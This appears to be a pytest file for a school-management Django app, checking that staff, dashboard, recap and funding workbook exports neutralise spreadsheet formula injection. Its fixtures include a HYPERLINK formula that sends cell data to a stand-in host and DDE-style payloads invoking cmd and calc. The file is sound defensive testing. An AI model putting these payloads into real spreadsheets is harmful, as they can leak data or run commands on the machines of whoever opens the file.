"""Formula injection (issue 16, item 4): stored text that a spreadsheet would take for a formula is
written as text in every workbook the product writes — the staff export and template, the dashboard
export, the semester recap and PKB recap workbooks, the funding (RKAM) workbook — shown unchanged,
and the staff export still reads back through the staff import without a change."""

from __future__ import annotations

import datetime as dt
from io import BytesIO

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from kompetensi.models import Instrument, PkbActivity, PkbStatus
from laporan.documents.rules import document_kind
from laporan.documents.services.reports import report_build_now
from madrasah.models import Madrasah, Staff
from madrasah.workbooks import FORMULA_TRIGGERS
from tests.factories import mutu_money
from tests.factories.madrasah import StaffFactory
from tests.laporan.document_world import NOW, supervised_semester

LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&C2,"Klik")'
# One hostile text per trigger; the first four can be typed in any form, tab and CR only arrive in
# stored data written some other way (an old import, the admin).
HOSTILE = {
    "=": LEAK,
    "+": "+62 812 3456 7890",
    "-": "-1+1|cmd!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
SEMESTER = "2026-2027-ganjil"


@pytest.fixture
def media(settings, tmp_path):
    root = tmp_path / "media"
    root.mkdir()
    settings.MEDIA_ROOT = str(root)
    return root


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False):
        yield


def texts_and_formulas(content: bytes) -> tuple[list[str], list[str]]:
    """(every text cell's value, the coordinates of every formula cell or formula-looking text cell
    without the quote prefix), over every sheet."""
    workbook = load_workbook(BytesIO(content))
    texts, bad = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{sheet.title}!{cell.coordinate} formula {cell.value!r}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS) and not cell.quotePrefix:
                        bad.append(f"{sheet.title}!{cell.coordinate} unmarked {cell.value!r}")
    return texts, bad


def assert_kept_as_text(content: bytes, expected: list[str]) -> None:
    texts, bad = texts_and_formulas(content)
    assert bad == []
    for text in expected:
        assert any(value == text or value.startswith(text) for value in texts), f"{text!r} not shown as written"


def hostile_names(madrasah, *people) -> None:
    """The madrasah and each person named with one hostile text each (as stored, bypassing forms)."""
    Madrasah.objects.filter(pk=madrasah.pk).update(name=LEAK)
    madrasah.refresh_from_db()
    for person, text in zip(people, HOSTILE.values(), strict=False):
        Staff.objects.filter(pk=person.pk).update(name=text, front_title="", back_title="")


# --- the staff export and template (madrasah) ----------------------------------------------------------


@pytest.fixture
def operator_client(client, operator):
    client.force_login(operator.user)
    return client


@pytest.mark.django_db
def test_the_staff_export_writes_hostile_text_as_text_and_reads_back_unchanged(operator_client, madrasah):
    StaffFactory(
        madrasah=madrasah,
        name=HOSTILE["="],
        front_title=HOSTILE["@"],
        back_title=HOSTILE["-"],
        birth_place=HOSTILE["+"],
        extra_duties=HOSTILE["="],
        employment_status="honorer",
        nip="",
        peg_id="99887766",
    )
    StaffFactory(
        madrasah=madrasah,
        name="-Nur Laila",
        extra_duties="+Wali Kelas VII-A",
        employment_status="honorer",
        nip="",
        peg_id="55544433",
    )
    before = {
        s.pk: (s.name, s.front_title, s.back_title, s.birth_place, s.extra_duties)
        for s in Staff.objects.filter(madrasah=madrasah)
    }
    exported = operator_client.get(reverse("madrasah:staff-export"))
    assert exported.status_code == 200
    assert_kept_as_text(
        exported.content, [HOSTILE["="], HOSTILE["@"], HOSTILE["-"], HOSTILE["+"], "-Nur Laila", "+Wali Kelas VII-A"]
    )

    upload = SimpleUploadedFile("pegawai.xlsx", exported.content)
    response = operator_client.post(reverse("madrasah:staff-import"), {"file": upload})
    assert [str(issue) for issue in response.context.get("errors") or []] == []
    result = response.context["result"]
    assert (result.created, result.updated) == (0, 0)
    after = {
        s.pk: (s.name, s.front_title, s.back_title, s.birth_place, s.extra_duties)
        for s in Staff.objects.filter(madrasah=madrasah)
    }
    assert after == before


@pytest.mark.django_db
def test_the_staff_template_has_no_formula(operator_client):
    response = operator_client.get(reverse("madrasah:staff-template"))
    assert texts_and_formulas(response.content)[1] == []


# --- the dashboard export and the report workbooks (laporan) -------------------------------------------


@pytest.fixture
def hostile_semester(madrasah, kepala, waka, guru, guru_lain):
    world = supervised_semester(madrasah, kepala, waka, guru, guru_lain)
    Instrument.objects.filter(pk=world["version"].instrument_id).update(name=HOSTILE["@"])
    hostile_names(madrasah, guru.staff, guru_lain.staff, world["fikri"], world["zainal"])
    return world


@pytest.mark.django_db
def test_the_dashboard_export_writes_hostile_names_as_text(login, kepala, hostile_semester):
    response = login(kepala).get(reverse("laporan:dashboard-export"), {"semester": hostile_semester["semester"].slug})
    assert response.status_code == 200
    assert_kept_as_text(response.content, [LEAK, HOSTILE["@"]])


@pytest.mark.django_db
def test_the_semester_recap_workbook_writes_hostile_names_as_text(madrasah, hostile_semester, media):
    report = report_build_now(madrasah=madrasah, kind=document_kind("semester"), period_key=SEMESTER)
    with report.spreadsheet.open("rb") as handle:
        content = handle.read()
    # The teachers with a final result: guru ("="), guru_lain ("+"), Fikri ("-"); the instrument "@".
    assert_kept_as_text(content, [LEAK, HOSTILE["+"], HOSTILE["-"], HOSTILE["@"]])


@pytest.mark.django_db
def test_the_pkb_recap_workbook_writes_hostile_names_as_text(madrasah, guru, guru_lain, operator, media):
    others = [StaffFactory(madrasah=madrasah) for _n in range(4)]
    people = [guru.staff, guru_lain.staff, *others]
    hostile_names(madrasah, *people)
    for person in people:
        PkbActivity.objects.create(
            madrasah=madrasah,
            teacher=person,
            kind="diklat",
            title=HOSTILE["="],
            organiser=HOSTILE["@"],
            start_date=dt.date(2026, 8, 10),
            end_date=dt.date(2026, 8, 10),
            jp=8,
            status=PkbStatus.VERIFIED,
        )
    report = report_build_now(madrasah=madrasah, kind=document_kind("pkb"), period_key="2026-2027")
    with report.spreadsheet.open("rb") as handle:
        content = handle.read()
    # Names are printed with their titles (`Staff.full_name`, spaces around them trimmed).
    assert_kept_as_text(content, [f"{LEAK} — ", *(text.strip() for text in HOSTILE.values())])


# --- the funding workbook (mutu) -----------------------------------------------------------------------


@pytest.mark.django_db
def test_the_funding_workbook_writes_hostile_titles_as_text(login, kepala, madrasah):
    year = madrasah.semesters.select_related("academic_year").get().academic_year
    cycle = mutu_money.cycle(owner=kepala, academic_year=year, title=HOSTILE["+"])
    mutu_money.activity(cycle, planned=1_000_000, rkam=HOSTILE["="], what=HOSTILE["@"])
    mutu_money.activity(cycle, planned=500_000, rkam=HOSTILE["-"], what=HOSTILE["\t"])
    response = login(kepala).get(reverse("mutu:funding-export"), {"periode": "2026"})
    assert response.status_code == 200
    assert_kept_as_text(response.content, [HOSTILE["="], HOSTILE["+"], HOSTILE["@"], HOSTILE["-"], HOSTILE["\t"]])


@pytest.mark.django_db
def test_a_control_character_in_stored_text_does_not_break_the_export(operator_client, madrasah):
    StaffFactory(madrasah=madrasah, name="Nur\fLaila", extra_duties="Wali\x0bKelas")
    response = operator_client.get(reverse("madrasah:staff-export"))
    assert response.status_code == 200
    assert_kept_as_text(response.content, ["Nur Laila", "Wali Kelas"])
